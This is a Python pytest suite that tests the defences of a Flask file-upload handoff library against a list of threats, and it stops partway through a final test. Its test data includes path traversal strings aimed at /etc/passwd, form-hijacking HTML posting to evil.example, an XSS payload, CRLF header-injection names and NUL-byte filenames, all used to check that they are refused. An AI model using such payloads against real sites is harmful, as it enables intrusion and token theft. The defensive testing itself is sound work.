"""The threats, acted out with real requests: each test is named for the row that it plays."""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import logging
import os
import re
from collections.abc import Callable, Iterable, Iterator
from pathlib import Path
from types import SimpleNamespace
from typing import TYPE_CHECKING, Any

import html5lib
import pytest
from flask import Flask, jsonify, redirect, request, session
from flask.sessions import SecureCookieSessionInterface
from itsdangerous import TimestampSigner, URLSafeSerializer, URLSafeTimedSerializer

from flask_s3handoff import S3Handoff
from flask_s3handoff.config import HandoffConfig
from flask_s3handoff.errors import Forged, HandoffError
from flask_s3handoff.handoff import Handoff
from flask_s3handoff.s3 import S3Store
from flask_s3handoff.testing import Fleet
from flask_s3handoff.tokens import MAX_TOKEN_LENGTH, Binding, Claim, Token
from flask_s3handoff.wsgi import HandoffMiddleware
from tests.browser_like import Browser, Page, Upload
from tests.carry.test_carry import ADA, LEO, line_of, shown
from tests.small_apps import answer, count, fleet_of, form, handoffs_of, memory, page, settled

if TYPE_CHECKING:
    from _typeshed.wsgi import StartResponse, WSGIEnvironment

pytestmark = pytest.mark.oldest

HTTPS = "https://app.example.com"
SECRET = "a secret that only the servers have"
PATH = "20261123/" + "k" * 26 + "/leo.png"


def site(app: Flask, handoff: S3Handoff) -> None:
    """A page that shows its files, one that only counts them, one that never looks."""

    @app.errorhandler(403)
    def stranger(error: Any) -> Any:
        return f"refused {getattr(error, 'reason', '')}", 403

    answer(app, "/show", lambda: page(shown(), told(handoff), form("/show")))
    answer(
        app,
        "/count",
        lambda: page(f"{sum(1 for _ in request.files.items(multi=True))} files", form("/count")),
    )
    answer(app, "/blind", lambda: page("blind", form("/show")))


def told(handoff: S3Handoff) -> str:
    """Write down the codes of this request's refusals."""
    return f"<p>codes {' '.join(error.code for error in handoff.errors)}</p>"


@pytest.fixture
def fleet() -> Iterator[Fleet]:
    """Three copies of the app."""
    with fleet_of(site) as fleet:
        yield fleet


def signed(fleet: Fleet, **changes: Any) -> str:
    """Sign a claim with the servers' own key, whatever it says."""
    facts: dict[str, Any] = {
        "relpath": PATH, "field": "avatar", "filename": "leo.png", "content_type": "image/png", "size": 3,
        "sha256": "a" * 64, "uploaded_at": 1_795_000_000, **changes,
    }  # fmt: skip
    return handoffs_of(fleet)[0].rooms.signer.mint(Token(Binding(), (Claim(**facts),)))


def sending(fleet: Fleet, cookies: str, origin: str = "http://localhost") -> Browser:
    """Return a browser that sends this ``Cookie`` header, whatever it was given."""

    raw = cookies.encode("utf-8", "surrogateescape").decode("latin-1")

    def app(environ: WSGIEnvironment, start_response: StartResponse) -> Iterable[bytes]:
        return fleet({**environ, "HTTP_COOKIE": raw}, start_response)

    return Browser(app, origin)


def given(browser: Browser, upload: Upload = LEO) -> Page:
    """Upload a picture and return the page with its token."""
    return browser.post("/show", [("avatar", upload)])


# --- tokens that nobody was given -----------------------------------------------------------------


@pytest.mark.parametrize(
    "relpath",
    [
        "../../etc/passwd",
        "/etc/passwd",
        "users/654/avatar.png",
        "20261123/../../users/654/avatar.png",
        "20261123/" + "k" * 26 + "/../../x",
        "20261123/" + "k" * 26 + "/..%2fx",
        "",
    ],
)
def test_t1_a_token_that_names_another_key_reaches_neither_disk_nor_store(
    fleet: Fleet, relpath: str
) -> None:
    """Even signed with our own key: the grammar of relative paths is judged again on every use."""
    seen = Browser(fleet).post("/show", [("_s3handoff", signed(fleet, relpath=relpath))])
    assert "codes forged" in seen.text
    assert count(fleet) == 0


def test_t2_a_signature_has_256_bits_and_is_compared_in_constant_time(
    fleet: Fleet, monkeypatch: pytest.MonkeyPatch
) -> None:
    """itsdangerous compares with ``hmac.compare_digest``; a shorter or longer one never matches."""
    token = given(Browser(fleet)).form().token
    payload, _, signature = token.rpartition(".")
    raw = base64.urlsafe_b64decode(signature + "=")
    assert len(raw) == hashlib.sha256().digest_size
    for wrong in (raw[:8], raw[:31], raw + b"\0", b""):
        guess = base64.urlsafe_b64encode(wrong).rstrip(b"=").decode()
        assert (
            "codes forged"
            in Browser(fleet).post("/show", [("_s3handoff", f"{payload}.{guess}")]).text
        )
    compared: list[Any] = []

    def compare(*pair: Any) -> bool:
        compared.extend(pair)
        return compare_digest(*pair)

    compare_digest = hmac.compare_digest
    monkeypatch.setattr(hmac, "compare_digest", compare)
    handoffs_of(fleet)[0].rooms.signer.read(token)
    assert raw in compared


OTHER_USES: dict[str, Callable[[str], str]] = {
    "mail-link": lambda key: URLSafeTimedSerializer(key).dumps([1, "x", ["", "", ""], [], 0]),
    "same-salt": lambda key: URLSafeSerializer(key, salt="flask_s3handoff.token.v1").dumps(["x"]),
    "timestamp": lambda key: TimestampSigner(key).sign(b"W10").decode(),
    "session": lambda key: str(_session_of(key)),
}


def _session_of(key: str) -> Any:
    app = Flask("other")
    app.secret_key = key
    serializer = SecureCookieSessionInterface().get_signing_serializer(app)
    assert serializer is not None
    return serializer.dumps({"user": "ada"})


@pytest.mark.parametrize("use", OTHER_USES)
def test_t4_what_the_same_key_signed_for_another_use_is_no_token(use: str) -> None:
    """A session cookie or a link from a mail, pasted into the form: another salt, another format."""
    with fleet_of(site, SECRET_KEY=SECRET) as fleet:
        pasted = OTHER_USES[use](SECRET)
        assert "codes forged" in Browser(fleet).post("/show", [("_s3handoff", pasted)]).text
        assert count(fleet) == 0


def test_t4_a_link_to_a_file_is_no_token(fleet: Fleet) -> None:
    """Nor the other way round: what our own route takes has a purpose of its own."""
    signer = handoffs_of(fleet)[0].rooms.signer
    link = signer.mint_link("handoff/" + PATH, 2**40, ["image/png", "inline"])
    assert "codes forged" in Browser(fleet).post("/show", [("_s3handoff", link)]).text
    with pytest.raises(Forged):
        signer.read_link(given(Browser(fleet)).form().token)
    bearer = signer.mint(Token(Binding()))
    payload = json.loads(base64.urlsafe_b64decode(bearer.partition(".")[0] + "=="))
    assert signer.read(signer._sign("token", payload)) == Token(Binding())
    with pytest.raises(Forged):  # what a token says, signed for another purpose
        signer.read(signer._sign("link", payload))


def test_t43_a_huge_token_is_refused_before_it_is_signed_or_parsed(
    fleet: Fleet, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Its length is judged first: no HMAC over megabytes, nothing inflated, nothing decoded."""
    signer = handoffs_of(fleet)[0].rooms.signer
    good = given(Browser(fleet)).form().token
    monkeypatch.setattr(signer, "_signer", lambda _: pytest.fail("it was hashed"))
    for text in ("A" * (MAX_TOKEN_LENGTH + 1), good[:1] * 400_000 + good):
        with pytest.raises(Exception, match="not valid"):
            signer.read(text)
    sent = Browser(fleet).post("/show", [("_s3handoff", "A" * (MAX_TOKEN_LENGTH + 1))])
    assert "codes forged" in sent.text


# --- other people's tokens ------------------------------------------------------------------------


def test_t5_a_stolen_token_is_worth_nothing_in_a_browser_with_cookies_of_its_own(
    fleet: Fleet,
) -> None:
    """Not even with an upload, a cookie and a token there; and what is there stays usable."""
    leo, ada = Browser(fleet), Browser(fleet)
    stolen, own = given(leo).form().token, given(ada, ADA).form().token
    assert ada.post("/show", [("_s3handoff", stolen)]).status == 403
    assert line_of(ADA) in ada.post("/show", [("_s3handoff", own)]).text
    mixed = ada.post("/count", [("_s3handoff", stolen), ("_s3handoff", own)])
    assert "2 files" in mixed.text  # both are listed, and the stolen one raises when it is read
    assert line_of(LEO) in leo.post("/show", [("_s3handoff", stolen)]).text


def test_t5_the_cookie_without_its_value_is_no_cookie(fleet: Fleet) -> None:
    """The token names its cookie's id, so a thief knows that; the value is in no page."""
    leo = Browser(fleet)
    seen = given(leo)
    (name,) = leo.cookies
    for value in ("", "A" * 22, "x"):
        thief = sending(fleet, f"{name}={value}")
        assert thief.post("/show", [("_s3handoff", seen.form().token)]).status == 403
    (cookie,) = leo._jar.values()
    assert cookie.value not in seen.text


def test_t6_a_planted_token_does_not_bring_the_attackers_file(fleet: Fleet) -> None:
    """A page elsewhere posts its own token into the victim's session: the victim lacks its cookie."""
    mallory, victim = Browser(fleet), Browser(fleet)
    planted = given(mallory, ADA).form().token
    given(victim)
    assert victim.post("/show", [("_s3handoff", planted)]).status == 403
    assert mallory.post("/show", [("_s3handoff", planted)]).status == 200


TOSSED = {
    "without-prefix": "s3handoff-{}",
    "lower-case": "__host-s3handoff-{}",
    "secure-only": "__Secure-s3handoff-{}",
    "unicode-space": "\u2000__Host-s3handoff-{}",
    "ideographic-space": "\u3000__Host-s3handoff-{}",
    "raw-no-break-space": "\udca0__Host-s3handoff-{}",
    "raw-next-line": "\udc85__Host-s3handoff-{}",
    "vertical-tab": "\x0b__Host-s3handoff-{}",
    "nameless": "=__Host-s3handoff-{}",
    "quoted": '"__Host-s3handoff-{}"',
}


@pytest.mark.parametrize("how", TOSSED)
def test_t6_a_cookie_that_a_sibling_domain_may_set_binds_nothing(fleet: Fleet, how: str) -> None:
    """``evil.example.com`` can set any cookie for ``example.com`` but one whose name begins ``__Host-``.

    Browsers take a name that begins with another kind of space; werkzeug 3.0 strips it.
    """
    mallory, victim = Browser(fleet, HTTPS), Browser(fleet, HTTPS)
    planted = given(mallory, ADA).form().token
    (cookie,) = mallory._jar.values()
    assert cookie.key.startswith("__Host-s3handoff-")
    own = given(victim)
    tossed = TOSSED[how].format(cookie.key.removeprefix("__Host-s3handoff-"))
    (mine,) = victim._jar.values()
    both = sending(fleet, f"{tossed}={cookie.value}; {mine.key}={mine.value}", HTTPS)
    assert both.post("/show", [("_s3handoff", planted)]).status == 403
    assert line_of(LEO) in both.post("/show", [("_s3handoff", own.form().token)]).text


def test_t6_a_cookie_of_the_same_name_does_not_replace_the_browsers_own(fleet: Fleet) -> None:
    """Of two with one name the first counts, as everywhere in werkzeug."""
    leo = Browser(fleet)
    token = given(leo).form().token
    (mine,) = leo._jar.values()
    for other in ("A" * 22, ""):
        both = sending(fleet, f"{mine.key}={mine.value}; {mine.key}={other}")
        assert line_of(LEO) in both.post("/show", [("_s3handoff", token)]).text


def test_t7_login_keeps_a_file_and_logout_leaves_it_to_nobody() -> None:
    """Of two people at one browser the second gets nothing, by token, page or cookie."""

    def build(app: Flask, handoff: S3Handoff) -> None:
        handoff.principal_loader(lambda: session.get("user"))
        site(app, handoff)

        @app.post("/login/<user>")
        def login(user: str) -> str:
            session["user"] = user
            return page(f"hello {user}", form("/show"))

        @app.post("/logout")
        def logout() -> Any:
            session.clear()
            handoff.forget()
            return redirect("/show")

    with fleet_of(build, SECRET_KEY=SECRET) as fleet:
        browser = Browser(fleet)
        anonymous = given(browser).form().token
        there = browser.post("/login/ada", [("_s3handoff", anonymous)])
        assert line_of(LEO) in browser.submit(there).text
        adas = browser.submit(there).form().token
        browser.post("/login/bob")
        assert browser.post("/show", [("_s3handoff", adas)]).status == 403
        browser.post("/login/ada")
        assert browser.post("/show", [("_s3handoff", adas)]).status == 200
        after = browser.post("/logout", [("_s3handoff", adas)])
        assert not after.tokens
        assert "_s3handoff" not in after.url
        for token in (adas, anonymous):
            assert browser.post("/show", [("_s3handoff", token)]).status == 403


@pytest.mark.parametrize("secure", [None, True])
def test_t7_tls_ended_in_front_without_proxyfix(
    secure: bool | None, caplog: pytest.LogCaptureFixture
) -> None:
    """A warning once a server, and the cookie is what the setting says: plain, or of this host alone."""
    with fleet_of(site, cookie_secure=secure) as fleet:
        leo = Browser(fleet, HTTPS if secure else "http://app.example.com")
        for _ in range(3):
            seen = leo.post("/show", [("avatar", LEO)], X_Forwarded_Proto="https")
        assert all(
            name.startswith("__Host-s3handoff-" if secure else "s3handoff-") for name in leo.cookies
        )
        if secure is None:
            assert caplog.text.count("ProxyFix") == len(fleet.copies)
        assert line_of(LEO) in leo.submit(seen).text


def test_servers_with_different_keys_are_told_of_once(caplog: pytest.LogCaptureFixture) -> None:
    """The answer is only a 400: without a word in the log nobody would know why."""
    with fleet_of(site) as fleet:
        leo = Browser(fleet)
        token = leo.post("/show", [("avatar", LEO)]).form().token
        for _ in range(3 * len(fleet.copies)):
            leo.post("/show", [("_s3handoff", token[:-8] + "AAAAAAAA")])

        assert caplog.text.count("have the same SECRET_KEY?") == len(fleet.copies)


# --- pages that somebody else had a hand in ------------------------------------------------------

OURS = form("/show")
EVIL = '<form method="post" action="https://evil.example/">'
HOSTILE = {
    "T8-left-open": EVIL + OURS,
    "T8-in-a-div": f"<div>{EVIL}</div>{OURS}",
    "T8-closed-in-a-script": f"{EVIL}<script>'</form>'</script>{OURS}",
    "T8-closed-in-a-comment": f"{EVIL}<!-- </form> -->{OURS}",
    "T8-around-a-table": f"<table><tr><td>{EVIL}</table>{OURS}",
    "T9-base-before": '<base href="//evil.example/">' + OURS,
    "T9-base-after": OURS + '<base href="//evil.example/">',
    "T10-formaction": form("/show", '<button formaction="//evil.example/">x</button>'),
    "T10-formaction-of-another": form("/show", attributes='id="f"')
    + '<input type="submit" form="f" formaction="https:evil.example">',
    "T10-formmethod-get": form("/show", '<button formmethod="get">x</button>'),
    "T10-foreign-action": form("//evil.example/"),
    "T10-space-before": form(" //evil.example/"),
    "T10-backslash": form("/\\evil.example/"),
    "T11-dangling-attribute": f"<img src='//evil.example/?{OURS}",
    "T11-dangling-action": f'<form method="post" action="/show?{form("/show").replace(chr(34), chr(39))}',
    "T12-script": f"<script>var s = '{OURS}'</script>",
    "T12-style": f"<style>/* {OURS} */</style>",
    "T12-comment": f"<!-- {OURS} -->",
    "T12-textarea": f"<textarea>{OURS}</textarea>",
    "T12-attribute": f"<p title='{OURS}'>x</p>",
    "T12-double-escaped": f"<script><!--<script>{OURS}</script>",
    "T44-iso-2022-jp": OURS,
    "T44-utf-7": OURS,
    "T44-utf-16": OURS,
    "T44-unknown": OURS,
    "T44-none-with-esc": "\x1b$B" + OURS,
}  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_page_gets_no_token(name: str) -> None:
    """Whatever was injected around our form, the page leaves as it is and no token goes elsewhere."""
    charset = name.partition("-")[2] if name.startswith("T44") else "utf-8"
    kind = "text/html" if charset == "none-with-esc" else f"text/html; charset={charset}"
    raw = HOSTILE[name].encode("utf-16" if charset == "utf-16" else "utf-8")

    def build(app: Flask, handoff: S3Handoff) -> None:
        answer(
            app,
            "/page",
            lambda: (request.files["avatar"], app.response_class(raw, content_type=kind))[1],
        )

    with fleet_of(build) as fleet:
        seen = Browser(fleet).post("/page", [("avatar", LEO)])
        assert seen.data == raw
        assert "Set-Cookie" not in seen.headers


def test_t8_a_token_stands_in_our_own_form_alone() -> None:
    """A closed foreign form before ours and one after it: the owner of each of our inputs is ours."""
    raw = f"{EVIL}</form>{OURS}{EVIL}</form>"

    def build(app: Flask, handoff: S3Handoff) -> None:
        answer(app, "/page", lambda: (request.files["avatar"], raw)[1])

    with fleet_of(build) as fleet:
        tree = html5lib.parse(
            Browser(fleet).post("/page", [("avatar", LEO)]).text, namespaceHTMLElements=False
        )
        owners = [
            f.get("action")
            for f in tree.iter("form")
            for i in f.iter("input")
            if i.get("name") == "_s3handoff"
        ]
        assert owners == ["/show"]


def test_t12_a_name_that_would_end_the_input_is_not_in_the_page(fleet: Fleet) -> None:
    """The names of field and file travel inside the token; what is added has no character of theirs."""
    hostile = '"><script>alert(1)</script>'
    seen = Browser(fleet).post("/count", [(hostile, Upload(hostile + ".png", b"x"))])
    added = re.findall(r"<input[^>]*>", seen.text)
    assert len(added) == 1
    assert re.fullmatch(
        r'<input type="hidden" name="_s3handoff" value="[A-Za-z0-9._~-]+" autocomplete="off">',
        added[0],
    )
    assert "alert" not in seen.text


HOSTILE_NAMES = ["a\nb", "a\r\nX: y", "\x1b[2J", "a\x00b", "\u2028x", "a\u202eb", "%0a%s%(x)s{0}"]


@pytest.mark.parametrize("name", HOSTILE_NAMES, ids=ascii)
def test_t13_no_name_of_a_client_ends_a_line_of_the_log(
    fleet: Fleet, name: str, caplog: pytest.LogCaptureFixture
) -> None:
    """Field and file names are logged as Python writes them down, on every path: good, bad and worse."""
    with caplog.at_level(logging.DEBUG, logger="flask_s3handoff"):
        body = "--b\r\nContent-Disposition: form-data; name=\"{0}\"; filename*=UTF-8''{0}\r\n\r\nx\r\n--b--\r\n"
        quoted = "".join(f"%{byte:02x}" for byte in name.encode())
        for raw in (body.format(quoted), body.format(quoted).replace(f'"{quoted}"', '"avatar"')):
            Browser(fleet).send("POST", "/show", raw.encode(), "multipart/form-data; boundary=b")
        facts = {"field": name, "filename": name, "uploaded_at": 1}
        Browser(fleet).post("/count", [("_s3handoff", signed(fleet, **facts))])
    logged = [record.getMessage() for record in caplog.records]
    assert logged
    assert [m for m in logged if not m.isprintable()] == []


@pytest.mark.parametrize("shape", ["page", "redirect"])
def test_t14_the_app_and_its_log_see_no_token_in_a_url(
    shape: str, caplog: pytest.LogCaptureFixture
) -> None:
    """Not in the environ that an access log is written from, and not in what we log ourselves."""
    environs: list[str] = []

    def build(app: Flask, handoff: S3Handoff) -> None:
        answer(app, "/add", lambda: (request.files["avatar"], redirect("/edit?size=2"))[1])

        @app.route("/edit", methods=["GET", "POST"])
        def edit() -> str:
            environs.append(str(request.environ))
            return page(form("/edit"))

    with fleet_of(build) as fleet, caplog.at_level(logging.DEBUG):
        there = Browser(fleet).post("/add", [("avatar", LEO)], follow=False)
        token = there.location.partition("_s3handoff=")[2]
        assert token
        assert there.headers["Referrer-Policy"] == "same-origin"
        browser = Browser(fleet)
        browser.open(there.location) if shape == "redirect" else browser.post(
            "/edit", [("_s3handoff", token)]
        )
        without = [e.replace(f"'s3handoff.query_token': '{token}'", "") for e in environs]
        assert not [e for e in without if token in e]
        assert token not in caplog.text


def test_t16_two_renders_of_one_page_have_nothing_to_guess_in_common(fleet: Fleet) -> None:
    """BREACH guesses a secret that stays while its own text changes; here nothing long enough stays."""
    browser = Browser(fleet)
    first = given(browser)
    again = [browser.submit(first).form().token for _ in range(3)]
    signatures = {token.rpartition(".")[2] for token in again}
    assert len(signatures) == len(again)
    (cookie,) = browser._jar.values()
    for token in again:
        payload = base64.urlsafe_b64decode(token.partition(".")[0] + "==").decode()
        assert cookie.value not in payload


# --- too much --------------------------------------------------------------------------------------

FLOODS: dict[str, list[tuple[str, str | Upload]]] = {
    "parts": [(f"field{n}", "x") for n in range(1001)],
    "files": [("avatar", Upload(f"{n}.png", b"x")) for n in range(900)],
}


@pytest.mark.parametrize("name", FLOODS)
def test_t17_a_flood_is_413_and_leaves_nothing(name: str) -> None:
    """Werkzeug's limits hold, ours beside them; files before the limit are not kept either."""
    with fleet_of(site) as fleet:
        assert Browser(fleet).post("/show", FLOODS[name]).status == 413
        settled(fleet)
        assert memory(fleet).keys() == []
        assert [f for root in work_folders(fleet) for _, _, f in os.walk(root) if f] == []


def work_folders(fleet: Fleet) -> list[str]:
    """Return where the copies keep their files."""
    return [handoff.rooms.workdir._root.path() for handoff in handoffs_of(fleet)]


def test_t19_a_full_disk_stops_uploads_and_nothing_else(
    fleet: Fleet, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Below the floor of free space an upload is 503 with Retry-After; the rest of the site goes on."""
    browser = Browser(fleet)
    seen = given(browser)
    for _ in fleet.copies:
        assert browser.submit(seen).status == 200  # each has its local copy by now
    monkeypatch.setattr(
        os, "statvfs", lambda _: SimpleNamespace(f_blocks=1 << 30, f_frsize=4096, f_bavail=0)
    )
    refused = given(browser, ADA)
    assert refused.status == 503
    assert int(refused.headers["Retry-After"]) > 0
    assert "store" in refused.text
    assert browser.post("/count", [("note", "x")]).status == 200
    assert browser.open("/show").status == 200
    assert line_of(LEO) in browser.submit(seen).text
    monkeypatch.undo()
    assert given(browser, ADA).status == 200


def test_t20_a_view_that_does_not_look_pulls_nothing(fleet: Fleet) -> None:
    """Twenty tokens of 5 GiB each in a form of a few kilobytes: no GET, no byte, no file."""
    browser = Browser(fleet)
    given(browser)
    tokens = [
        ("_s3handoff", bound(fleet, browser, relpath=relpath(n), size=5 << 30)) for n in range(20)
    ]
    settled(fleet)
    asked = count(fleet)
    for url in ("/count", "/blind"):
        assert browser.post(url, tokens).status == 200
    assert "20 files" in browser.post("/count", tokens).text
    assert count(fleet) == asked


def test_t20_a_thousand_tokens_are_one_refusal(fleet: Fleet) -> None:
    """What is beyond the number of files is not even read."""
    browser = Browser(fleet)
    own = given(browser).form().token
    asked = count(fleet)
    seen = browser.post("/show", [("_s3handoff", own)] * 1000)
    assert seen.text.count("too_large") == 1
    assert count(fleet) <= asked + 1


def test_t20_collected_files_are_together_no_larger_than_the_work_folder() -> None:
    """With ``"collect"`` files are fetched before the view runs: not gigabytes for a kilobyte."""
    with fleet_of(site, on_error="collect", work_dir_max_bytes=1 << 20) as fleet:
        browser = Browser(fleet)
        large = [Upload(f"{n}.png", bytes([n]) * 600_000) for n in range(3)]
        tokens = [("_s3handoff", given(browser, upload).form().token) for upload in large]
        settled(fleet)
        for _ in fleet.copies:
            memory(fleet).calls.clear()
            seen = browser.post("/show", [*tokens, tokens[0]])
            assert line_of(large[0]) in seen.text
            assert "codes too_large too_large" in seen.text
            assert count(fleet, "fetch") <= 1


def test_t20_a_body_is_filled_with_no_more_than_the_work_folder_holds(tmp_path: Path) -> None:
    """Behind the middleware files are put into the body before the app reads it: the same limit."""
    handoff = Handoff.from_mapping({
        "S3HANDOFF_STORE": "memory", "SECRET_KEY": SECRET, "S3HANDOFF_WORK_DIR": str(tmp_path / "work"),
        "S3HANDOFF_WORK_DIR_MAX_BYTES": 1 << 20,
    })  # fmt: skip

    def app(environ: Any, start_response: Any) -> list[bytes]:
        environ["wsgi.input"].read()
        start_response("200 OK", [("Content-Type", "text/html")])
        return [page(form("/")).encode()]

    browser = Browser(HandoffMiddleware(app, handoff))
    large = [Upload(f"{n}.png", bytes([n]) * 600_000) for n in range(2)]
    tokens = [
        ("_s3handoff", browser.post("/", [("avatar", upload)]).form().token) for upload in large
    ]
    handoff.rooms.mirror.close()
    assert browser.post("/", tokens[:1]).status == 200
    refused = browser.post("/", tokens)
    assert refused.status == 413
    assert "1,048,576 bytes" in refused.text


def relpath(number: int) -> str:
    """Return a relative path of ours that no file has."""
    return f"20261123/{chr(97 + number) * 26}/leo.png"


def bound(fleet: Fleet, browser: Browser, **changes: Any) -> str:
    """Sign a claim for the cookie that this browser has."""
    signer = handoffs_of(fleet)[0].rooms.signer
    (cookie,) = browser._jar.values()
    own = signer.read(given(browser).form().token)
    assert own.binding.cookie_id in cookie.key
    (claim,) = own.claims
    facts = {**claim._asdict(), **changes}
    return signer.mint(Token(own.binding, (Claim(**facts),)))


# --- names, types, limits ----------------------------------------------------------------------

DISPOSITIONS = {
    "T23-up": 'filename="../../../../etc/cron.d/x"',
    "T23-absolute": 'filename="/etc/passwd"',
    "T23-windows": 'filename="C:\\\\x\\\\NUL"',
    "T23-nul": 'filename="a.php\0.png"',
    "T23-device": 'filename="CON"',
    "T23-dots": 'filename=".."',
    "T24-encoded": "filename*=UTF-8''%2e%2e%2f%2e%2e%2fx.png",
    "T24-encoded-once-more": "filename*=UTF-8''%252e%252e%252fx.png",
}


@pytest.mark.parametrize("name", DISPOSITIONS)
def test_a_hostile_name_is_no_path(name: str) -> None:
    """It is told to the app, and no disk or key ever has it: every file lies where a file of ours lies."""
    with fleet_of(site) as fleet:
        part = f'--b\r\nContent-Disposition: form-data; name="avatar"; {DISPOSITIONS[name]}\r\n\r\nx\r\n--b--\r\n'
        seen = Browser(fleet).send(
            "POST", "/show", part.encode(), "multipart/form-data; boundary=b"
        )
        assert seen.status == 200
        settled(fleet)
        (key,) = memory(fleet).keys()
        assert re.fullmatch(r"handoff/\d{8}/[0-9a-z]{26}/[A-Za-z0-9._-]+", key)
        assert not {"..", "NUL", "CON", "."} & set(key.split("/"))
        files = [
            str(p.relative_to(r))
            for r in work_folders(fleet)
            for p in Path(r).rglob("*")
            if p.is_file()
        ]
        assert files == [key.removeprefix("handoff/")]


@pytest.mark.parametrize(
    "both",
    ["filename=\"a.png\"; filename*=UTF-8''..%2fx.php", 'filename="a.png"; filename="b.php"'],
    ids=["T24-both-spellings", "T24-twice"],
)
def test_a_file_named_twice(fleet: Fleet, both: str) -> None:
    """A firewall may have judged the other name: the same parameter twice is 400, and one is chosen."""
    part = f'--b\r\nContent-Disposition: form-data; name="avatar"; {both}\r\n\r\nx\r\n--b--\r\n'
    seen = Browser(fleet).send("POST", "/show", part.encode(), "multipart/form-data; boundary=b")
    assert seen.status == (400 if both.endswith('.php"') else 200)
    if seen.status == 200:
        settled(fleet)
        (key,) = memory(fleet).keys()
        assert key.endswith("/x.php")


@pytest.mark.parametrize(
    ("kind", "filename", "is_shown"),
    [
        ("image/png", "leo.png", True),
        ("image/svg+xml", "leo.svg", False),
        ("text/html", "leo.html", False),
        ("text/html;image/png", "leo.png", False),
        ("image/png, text/html", "leo.html", False),
        ("image/png", "leo.html", False),
        ("application/xhtml+xml", "leo.png", False),
    ],
    ids=lambda value: str(value),
)
def test_t25_only_a_raster_picture_is_ever_shown_inline(
    kind: str, filename: str, is_shown: bool, tmp_path: Path
) -> None:
    """What could run as a script is a download of no type, by its link too; and nobody guesses."""

    def build(app: Flask, handoff: S3Handoff) -> None:
        answer(app, "/add", lambda: request.files["avatar"].url())

    with fleet_of(build, store=f"dir:{tmp_path}") as fleet:
        browser = Browser(fleet)
        link = browser.post("/add", [("avatar", Upload(filename, b"<script>", kind))]).text
        seen = browser.open(link)
        assert seen.headers["Content-Type"] == (
            "image/png" if is_shown else "application/octet-stream"
        )
        assert seen.headers["Content-Disposition"].startswith(
            "inline" if is_shown else "attachment"
        )
        assert seen.headers["X-Content-Type-Options"] == "nosniff"


def test_t26_no_name_adds_a_header_to_a_download(tmp_path: Path) -> None:
    """The disposition of a link parses back to one name; line breaks never reach it."""

    def build(app: Flask, handoff: S3Handoff) -> None:
        answer(app, "/add", lambda: request.files["avatar"].url())

    with fleet_of(build, store=f"dir:{tmp_path}") as fleet:
        browser = Browser(fleet)
        for name in ("a\r\nX-Evil: 1.png", 'a"; x="b.png', "a;b.png", "\u202egnp.exe", "a\\.png"):
            link = browser.post("/add", [("avatar", Upload(name, b"x"))]).text
            seen = browser.open(link)
            assert "X-Evil" not in seen.headers
            disposition = seen.headers["Content-Disposition"]
            assert disposition.isascii()
            assert disposition.isprintable()
            assert re.fullmatch(
                r"attachment; filename=[^;]+(; filename\*=UTF-8''[^;\"]+)?", disposition
            )


def test_t36_a_restored_file_is_what_was_validated() -> None:
    """Field, name and type are those that were signed; a token does not fill another field."""

    def build(app: Flask, handoff: S3Handoff) -> None:
        answer(app, "/add", lambda: (request.files["avatar"], page(form("/sign")))[1])
        answer(
            app, "/sign",
            lambda: jsonify(
                contract="contract" in request.files,
                files=[(k, f.filename, f.content_type) for k, f in request.files.items(multi=True)],
            ),
        )  # fmt: skip

    with fleet_of(build) as fleet:
        browser = Browser(fleet)
        token = browser.post("/add", [("avatar", LEO)]).form().token
        forms: list[list[tuple[str, str | Upload]]] = [
            [("_s3handoff", token), ("contract", token)],
            [("_s3handoff", token), ("contract", Upload("", b""))],
            [
                ("_s3handoff", token),
                ("contract.filename", "x.pdf"),
                ("avatar", '{"filename": "x.pdf"}'),
            ],
        ]
        for values in forms:
            seen = json.loads(browser.post("/sign", values).text)
            assert seen["contract"] is False or values[1][1] == Upload("", b"")
            assert ["avatar", "leo.png", "image/png"] in seen["files"]
            assert not [name for field, name, _ in seen["files"] if field == "contract" and name]


ORDERS = {
    "token-first": ["token", "file"], "file-first": ["file", "token"],
    "token-and-nothing-chosen": ["token", "empty"], "twice": ["token", "token"],
}  # fmt: skip


@pytest.mark.parametrize("order", ORDERS)
def test_t37_a_file_and_a_token_of_one_field_are_one_file(fleet: Fleet, order: str) -> None:
    """In whatever order they come: what was chosen now wins, nothing chosen is the token's."""
    browser = Browser(fleet)
    token = given(browser).form().token
    values: dict[str, tuple[str, str | Upload]] = {
        "token": ("_s3handoff", token),
        "file": ("avatar", ADA),
        "empty": ("avatar", Upload("", b"")),
    }
    seen = browser.post("/show", [values[part] for part in ORDERS[order]])
    lines = re.findall(r"<p>avatar.*?</p>", seen.text)
    assert lines == [line_of(ADA if "file" in ORDERS[order] else LEO)]


@pytest.mark.parametrize("limit", ["max_file_size", "max_files"])
def test_t36_the_limits_of_today_hold_for_files_of_yesterday(limit: str) -> None:
    """A token from before a limit was set brings nothing that an upload could not."""
    with fleet_of(site) as fleet:
        browser = Browser(fleet)
        tokens = [("_s3handoff", given(browser, u).form().token) for u in (LEO, ADA)]
        settled(fleet)
        for handoff in handoffs_of(fleet):
            config = handoff.rooms.config
            names = {"max_file_size": ("max_file_size_bytes", 10), "max_files": ("max_files", 1)}
            object.__setattr__(config, *names[limit])
        asked = count(fleet)
        assert browser.post("/count", tokens).status == 200
        seen = browser.post("/show", tokens)
        if limit == "max_file_size":
            assert seen.status == 413
            assert count(fleet) == asked
        else:
            assert "codes too_large" in seen.text
            assert line_of(ADA) not in seen.text


# --- the local disk, the keys, the rest --------------------------------------------------------


def test_t34_a_local_copy_that_somebody_has_changed_is_not_shown(fleet: Fleet) -> None:
    """One flipped byte of the same length, with the times put back: it is fetched again."""
    browser = Browser(fleet)
    seen = given(browser)
    for _ in fleet.copies:
        browser.submit(seen)
    copies = [p for r in work_folders(fleet) for p in Path(r).rglob("leo.png")]
    assert len(copies) == len(fleet.copies)
    for copy in copies:
        was = copy.stat()
        copy.chmod(0o600)
        with copy.open("r+b") as file:
            file.write(b"\0")
        os.utime(copy, ns=(was.st_atime_ns, was.st_mtime_ns))
        copy.chmod(0o400)
    for _ in fleet.copies:
        assert line_of(LEO) in browser.submit(seen).text


def test_t35_what_stands_in_a_token_is_what_the_browser_knows_already() -> None:
    """Signed, not secret: its file's path, names, size, digest and time; of cookie and user, digests."""

    def build(app: Flask, handoff: S3Handoff) -> None:
        handoff.principal_loader(lambda: "ada@example.com")
        site(app, handoff)

    with fleet_of(build) as fleet:
        browser = Browser(fleet)
